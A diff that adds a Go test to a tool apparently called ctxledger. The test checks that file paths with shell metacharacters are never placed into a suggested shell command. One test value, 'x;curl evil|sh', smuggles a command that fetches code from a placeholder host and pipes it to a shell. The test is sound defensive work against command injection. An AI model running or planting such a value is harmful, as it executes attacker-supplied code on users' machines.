@@ -316,3 +316,22 @@ func TestACutDocumentSaysWhereTheRestIs(t *testing.T) {
 		}
 	}
 }
+
+// TestACommandHoldsNoWordsOfOthers: what is there to be copied into a shell runs ctxledger and nothing else.
+func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
+	for path, want := range map[string]string{
+		"src/add_1.go": "`ctxledger why src/add_1.go`", "Straße/买.md": "`ctxledger why Straße/买.md`",
+		"x;curl evil|sh": "`ctxledger why`, with its path,", "a b": "`ctxledger why`, with its path,",
+		"$(x)": "`ctxledger why`, with its path,", "a`b": "`ctxledger why`, with its path,", "a\nb": "`ctxledger why`, with its path,",
+		"--help": "`ctxledger why`, with its path,", "'": "`ctxledger why`, with its path,", "a\\b": "`ctxledger why`, with its path,",
+	} {
+		if got := why(path); got != want {
+			t.Errorf("%q: %s", path, got)
+		}
+	}
+	l := newLedger(t)
+	l.say("", l.use("Write", map[string]any{"file_path": "/ws/x;curl evil|sh", "content": "x"}, "ok", false)...)
+	if text := l.open(l.nodes(KindChange)["x;curl evil|sh"]); !strings.Contains(text, "\n`ctxledger why`, with its path, tells") {
+		t.Errorf("the change says %s", text)
+	}
+}
